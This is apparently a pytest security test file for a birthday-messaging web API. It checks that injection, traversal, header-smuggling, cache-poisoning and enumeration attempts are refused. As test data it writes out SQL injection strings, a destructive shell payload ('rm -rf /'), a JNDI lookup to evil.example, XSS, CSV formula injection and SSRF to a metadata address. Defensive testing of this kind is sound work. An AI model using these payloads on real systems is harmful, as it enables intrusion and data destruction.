"""What is typed into the fields of a person, or of a request about one, and is to be run somewhere else."""

import asyncio
import base64
import csv
import io
import json
from collections.abc import Mapping
from http import HTTPStatus
from typing import Any

import httpx
import pytest
from structlog.typing import EventDict

from adapters.delivery.mail import MailUnwritable, mail_of
from application.deliveries import Recipient
from application.texts import WriteText
from domain.access import Scope
from entrypoints.http.use_cases import UseCases
from tests.attacks.tried import tried, tried_once
from tests.contract.channel import delivery
from tests.delivery.words import WRITE
from tests.http.world import ADA, AS_ADMIN, Api, app_of, problem

pytestmark = pytest.mark.slow  # together they are

INTO_ANOTHER = "Commands in what is typed"
REPEATED = "Doing things twice, or for others"
KEPT = "Poisoning what is kept"

SQL = {
    "SQL in the address that is looked for: 422": "/users?email=x'%20OR%20'1'='1'%20--@example.com",
    "SQL in the size of a page: 422": "/users?limit=1;DROP%20TABLE%20users",
    "SQL in a cursor: 422": "/users?after=" + base64.urlsafe_b64encode(b"' OR 1=1 --").decode().rstrip("="),
    "SQL in the ledger's cursor: 422": "/messages?after="
    + base64.urlsafe_b64encode(b"2027-01-01' OR 1=1").decode().rstrip("="),
    "SQL in a status: 422": "/messages?status=SENT'%20OR%20'1'='1",
    "SQL in an id: 404": "/users/1'%20OR%20'1'='1",
    "SQL in the key of a message: 404": "/messages/2027-03-14.birthday.'%20OR%201=1",
    "a path in the language of a template: 404 or 422": "/templates/birthday/preview?language=../../../../etc/passwd",
    "a path in the kind of a template: 404": "/templates/..%2f..%2fsettings/preview",
    "a template in the language of a template: 404 or 422": "/templates/birthday/preview?language=%7B%7B7*7%7D%7D",
    "a line break in a parameter, for a header of the answer: 422": "/users?after=x%0d%0aSet-Cookie:%20a=b",
}


@tried(INTO_ANOTHER, SQL)
def test_what_an_address_says_is_only_compared(api: Api, ada: str, attempt: str) -> None:
    answer = api.get(attempt)
    assert answer.status_code in {404, 422}, answer.text
    assert "set-cookie" not in answer.headers
    for word in ("49", "root:", "Lovelace", "DROP", "OR 1"):
        assert word not in answer.text


NAMES = {
    "SQL in a name: a name": "Robert'); DROP TABLE users;--",
    "a template in a name: a name": "{{ 7*7 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    "a format in a name: a name": "%s%s%n {0.__class__} ${jndi:ldap://evil.example/a}",
    "a shell's command in a name: a name": "$(touch /tmp/x)`id`; rm -rf /",
    "markup in a name: a name": "<script>alert(1)</script>",
}


@tried(INTO_ANOTHER, NAMES)
def test_a_name_is_a_name_in_answers_and_in_messages(api: Api, attempt: str) -> None:
    user = api.register(firstName=attempt)
    assert api.get(user).json()["firstName"] == attempt
    assert len(api.service.store.committed.users) == 1
    text = _written(Recipient(attempt, "L", "ada@example.com"))
    assert attempt in text


def _written(recipient: Recipient, write: WriteText = WRITE) -> str:
    return write(delivery(recipient=recipient)).body


REFUSED: Mapping[str, Mapping[str, str]] = {
    "a line break in a name, for a header of the mail: 422": {"firstName": "Ada\r\nBcc: x@example.com"},
    "a line break of Unicode in a name: 422": {"firstName": "Ada\u2028Bcc: x@example.com"},
    "a line break in an address, for a second recipient: 422": {
        "email": "a@example.com\r\nBcc: x@example.com"
    },
    "an encoded line break in an address: 422": {"email": "a%0d%0aBcc:x@example.com "},
    "two addresses in one: 422": {"email": "a@example.com,b@example.com"},
    "an address with a name before it: 422": {"email": "Eve <a@example.com>"},
    "an address that is a command of SMTP: 422": {"email": "a@example.com> SIZE=1\r\nDATA"},
    "an address in quotes, with a blank in it: 422": {"email": '"a b"@example.com'},
    "an address at a number: 422": {"email": "a@[169.254.169.254]"},
    "zero bytes in a name: 422": {"firstName": "Ada\x00"},
    "colours of a terminal in a name: 422": {"firstName": "\x1b[31mAda\x1b]0;x\x07"},
    "letters that turn a line around, in a name: 422": {"firstName": "Ada \u202etxt.exe"},
    "a name that shows nothing: 422": {"firstName": "\u3164\u200b"},
    "a domain in wide letters, beside the one in narrow ones: 422": {"email": "ada@ｅxample.com"},
    "a path for a time zone: 422": {"timezone": "../../../etc/passwd"},
    "a path below the zones, for a time zone: 422": {"timezone": "Europe/../../etc/hostname"},
    "a zone of a POSIX text: 422": {"timezone": "AAA+99:99:99BBB"},
    "a birthday in the future: 422": {"birthdayDate": "2999-01-01"},
    "a year of ten digits: 422": {"birthdayDate": "9999999999-01-01"},
    "digits of another script in a date: 422": {"birthdayDate": "١٩٩٠-٠١-٠١"},
}


@tried(INTO_ANOTHER, REFUSED)
def test_what_would_command_something_else_is_refused(api: Api, attempt: Mapping[str, str]) -> None:
    problem(api.post("/users", {**ADA, **attempt}), HTTPStatus.UNPROCESSABLE_ENTITY)
    assert not api.service.store.committed.users


FORMULAS = ("=cmd|'/c calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1")


@tried(
    INTO_ANOTHER,
    {
        f"the formula `{text.strip()}` in a name, for a spreadsheet: text"
        + (", behind a tab" if text[0] == "\t" else ""): text
        for text in FORMULAS
    },
)
def test_no_cell_of_an_export_is_a_formula(api: Api, attempt: str) -> None:
    data = f'email,first_name,last_name,timezone\na@example.com,"{attempt}",L,UTC\n'.encode()
    answer = api("POST", "/users/import", content=data, headers={"content-type": "text/csv"})
    assert answer.status_code == HTTPStatus.OK
    rows = list(csv.reader(io.StringIO(api.get("/users/export").text)))
    assert len(rows) <= 2
    assert not [cell for row in rows for cell in row if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]


@tried(
    INTO_ANOTHER,
    {
        "a line break in the id of a request, for a line of the log: another id": "x\r\nlevel=info event=logged_in",
        "JSON in the id of a request: another id": '","event":"x',
        "ten thousand letters as the id of a request: another id": "x" * 10_000,
    },
)
def test_the_log_has_lines_of_ours_alone(api: Api, logged: list[EventDict], attempt: str) -> None:
    answer = api("GET", "/health/live", headers={"x-request-id": attempt})
    assert answer.headers["x-request-id"] not in {attempt, ""}
    assert len(answer.headers["x-request-id"]) == 32
    assert [line["event"] for line in logged] == ["request_served"]
    assert "logged_in" not in repr(logged)


@tried_once(INTO_ANOTHER, "an address of the service in the log, with a name in it: the route alone")
def test_the_log_says_the_route_and_not_what_was_typed(api: Api, logged: list[EventDict]) -> None:
    api.get("/users?email=zebulon@example.com")
    api.get("/zebulon")
    assert "zebulon" not in repr(logged)


@tried_once(INTO_ANOTHER, "a method of ten thousand letters, for a label of a metric: unknown")
def test_a_metric_has_no_label_that_somebody_chose(api: Api) -> None:
    api("X" * 10_000, "/users")
    assert "XXX" not in api.get("/metrics").text


@tried_once(INTO_ANOTHER, "a mail whose subject would have a second line: one line")
def test_a_mail_has_the_headers_that_we_write() -> None:
    text = WRITE(delivery())._replace(subject="x\r\nBcc: y@example.com")
    with pytest.raises(MailUnwritable):
        mail_of(delivery(), text, "birthdays@example.org")


@tried_once(REPEATED, "eight registrations of one address at once: one person")
async def test_an_address_is_given_once_however_many_ask_at_once(use_cases: UseCases, api: Api) -> None:
    answers = await _at_once(use_cases, [dict(ADA)] * 8)
    assert sorted(answer.status_code for answer in answers) == [201, *[409] * 7]


@tried_once(REPEATED, "eight spellings of one address at once: one person")
async def test_an_address_is_given_once_however_it_is_written(use_cases: UseCases, api: Api) -> None:
    spellings = ["ada@bücher.de", "ADA@BÜCHER.DE", "ada@xn--bcher-kva.de", "Ada@XN--BCHER-KVA.de"]
    spellings += ["ada@bu\u0308cher.de", " ada@bücher.de ", "ADA@bu\u0308cher.DE", "ada@Xn--bcher-kvA.De"]
    answers = await _at_once(use_cases, [{**ADA, "email": spelling} for spelling in spellings])
    assert sorted(answer.status_code for answer in answers) == [201, *[409] * 7]


@tried_once(REPEATED, "one Idempotency-Key eight times at once: done once")
async def test_a_key_of_a_request_is_exact_at_once(use_cases: UseCases, api: Api) -> None:
    answers = await _at_once(use_cases, [dict(ADA)] * 8, **{"idempotency-key": '"k"'})
    created = [answer for answer in answers if answer.status_code == 201]
    assert {answer.status_code for answer in answers} <= {201, 409}
    assert len({answer.headers["location"] for answer in created}) == 1
    assert len(api.service.store.committed.users) == 1


async def _at_once(use_cases: UseCases, bodies: list[dict[str, Any]], **headers: str) -> list[httpx.Response]:
    transport = httpx.ASGITransport(app_of(use_cases))  # type: ignore[arg-type]  # the same protocol by another name
    async with httpx.AsyncClient(
        transport=transport, base_url="http://testserver", headers={**AS_ADMIN, **headers}
    ) as client:
        return list(await asyncio.gather(*(client.post("/users", json=body) for body in bodies)))


@tried_once(REPEATED, "another caller's Idempotency-Key: a request of its own")
def test_what_one_caller_was_answered_is_not_told_to_another(api: Api, use_cases: UseCases) -> None:
    other = api.do(use_cases.access.make_key, "other", {Scope.USERS_WRITE})
    first = api.post("/users", dict(ADA), Idempotency_Key='"k"')
    second = api.post("/users", dict(ADA), Idempotency_Key='"k"', Authorization=f"Bearer {other.text}")
    assert first.status_code == HTTPStatus.CREATED
    assert "lastName" not in problem(second, HTTPStatus.CONFLICT)


KEYS = {
    "another body under an Idempotency-Key: 422": ('"k"', {**ADA, "email": "b@example.com"}, 422),
    "an Idempotency-Key of 256 letters: 400": ("x" * 256, dict(ADA), 400),
    "an Idempotency-Key with a line break: 400": ("x\ty", dict(ADA), 400),
    "an empty Idempotency-Key: 400": ('""', dict(ADA), 400),
}


@tried(REPEATED, KEYS)
def test_a_key_of_a_request_is_for_that_request(api: Api, attempt: tuple[str, dict[str, Any], int]) -> None:
    text, body, status = attempt
    api.post("/users", dict(ADA), Idempotency_Key='"k"')
    problem(api.post("/users", body, Idempotency_Key=text), HTTPStatus(status))
    assert len(api.service.store.committed.users) == 1


@tried_once(REPEATED, "two Idempotency-Keys in one request: 400")
def test_a_request_has_one_key(api: Api) -> None:
    headers = [("idempotency-key", "a"), ("idempotency-key", "b"), ("content-type", "application/json")]
    answer = api("POST", "/users", content=json.dumps(dict(ADA)), headers=headers)
    problem(answer, HTTPStatus.BAD_REQUEST)


@tried_once(REPEATED, "an Idempotency-Key where keys are made, to read a secret again: 400")
def test_a_secret_is_not_kept_for_a_repetition(api: Api) -> None:
    body = {"name": "x", "scopes": ["users:read"]}
    problem(api.post("/keys", body, Idempotency_Key='"k"'), HTTPStatus.BAD_REQUEST)


@tried_once(REPEATED, "If-Match: * and lists of tags, to win over a change: the version decides")
def test_a_condition_is_not_talked_around(api: Api, ada: str) -> None:
    for tag in ('"2"', 'W/"1"', '"2", "3"', '"1\\"'):
        answer = api.patch(ada, {"lastName": "X"}, If_Match=tag)
        assert answer.status_code in {400, 412}
    assert api.get(ada).json()["version"] == 1


UNKEYED = {
    "X-Forwarded-Host": {"X-Forwarded-Host": "evil.example"},
    "Host": {"Host": "evil.example"},
    "X-Forwarded-Prefix and -Proto": {"X-Forwarded-Prefix": "/evil", "X-Forwarded-Proto": "gopher"},
    "X-Original-URL": {"X-Original-URL": "/users?email=eve@example.com"},
}


@tried(
    KEPT, {f"{name} in an answer that may be kept: not in it": headers for name, headers in UNKEYED.items()}
)
def test_no_answer_depends_on_what_a_cache_does_not_look_at(
    api: Api, ada: str, attempt: dict[str, str]
) -> None:
    for path in ("/users?limit=1", ada, "/birthdays/today", "/schema"):
        plain, odd = api.get(path), api("GET", path, headers=attempt)
        assert (plain.content, plain.status_code) == (odd.content, odd.status_code)
        assert "evil" not in repr(odd.headers.raw)


@tried_once(KEPT, "a person's data in a cache between us and the client: may not be kept there")
def test_nothing_personal_may_be_kept_by_others(api: Api, ada: str) -> None:
    for path in (
        ada,
        "/users",
        "/users?email=ada@example.com",
        "/messages",
        f"{ada}/upcoming",
        "/users/export",
        "/birthdays/today",
    ):
        kept = api.get(path).headers["cache-control"]
        assert "private" in kept or "no-store" in kept


@tried_once(KEPT, "an address like the key of another entry: 422, or that person alone")
def test_no_address_leads_to_an_entry_of_another_kind(api: Api, ada: str) -> None:
    api.register(email="eve@example.com", firstName="Eve")
    for email in ("user:v1", "*", "ada@example.com\nuser:v1:x", "ada@example.com ", "{x}ada@example.com"):
        answer = api("GET", "/users", params={"email": email})
        assert answer.status_code in {404, 422} or answer.json()["email"] == email.strip()


@tried_once(KEPT, "a parameter given twice, of which a cache sees the first and we the second: 422")
def test_a_parameter_is_given_once(api: Api, ada: str) -> None:
    problem(api.get("/users?email=eve@example.com&email=ada@example.com"), HTTPStatus.UNPROCESSABLE_ENTITY)
    problem(api.get("/users?limit=1&utm_source=x"), HTTPStatus.UNPROCESSABLE_ENTITY)


@tried_once(
    "Finding out who is there",
    "an id that is nobody's, one that cannot be one, and an erased one: the same 404",
)
def test_ids_do_not_tell_who_was_there(api: Api, ada: str) -> None:
    api("DELETE", f"{ada}?erase=true")
    answers = [api.get(path) for path in (ada, "/users/01900000-0000-7000-8000-000000000000", "/users/x")]
    assert len({answer.content for answer in answers}) == 1
    assert {answer.status_code for answer in answers} == {404}


@tried_once("Finding out who is there", "keys that exist and keys that do not: the same 401")
def test_a_refusal_does_not_tell_which_keys_there_are(api: Api, use_cases: UseCases) -> None:
    made = api.do(use_cases.access.make_key, "other", {Scope.USERS_READ})
    wrong = f"{made.text[:20]}{'0' if made.text[20] != '0' else '1'}{made.text[21:]}"
    answers = [api.get("/users", Authorization=f"Bearer {text}") for text in (wrong, "bday_x", "x")]
    assert len({(answer.status_code, answer.content) for answer in answers}) == 1


@tried_once("Finding out who is there", "whom a taken address belongs to: not told")
def test_a_conflict_names_nobody(api: Api, ada: str) -> None:
    answer = api.post("/users", dict(ADA))
    problem(answer, HTTPStatus.CONFLICT)
    for word in ("ada@", "Lovelace", ada.rpartition("/")[2]):
        assert word not in answer.text


@tried_once("Finding out who is there", "a list of keys, for their secrets: none, nor their digests")
def test_a_list_of_keys_holds_no_secret(api: Api) -> None:
    shown = api.get("/keys").text
    assert AS_ADMIN["Authorization"].removeprefix("Bearer ")[17:] not in shown
    assert "digest" not in shown.lower()
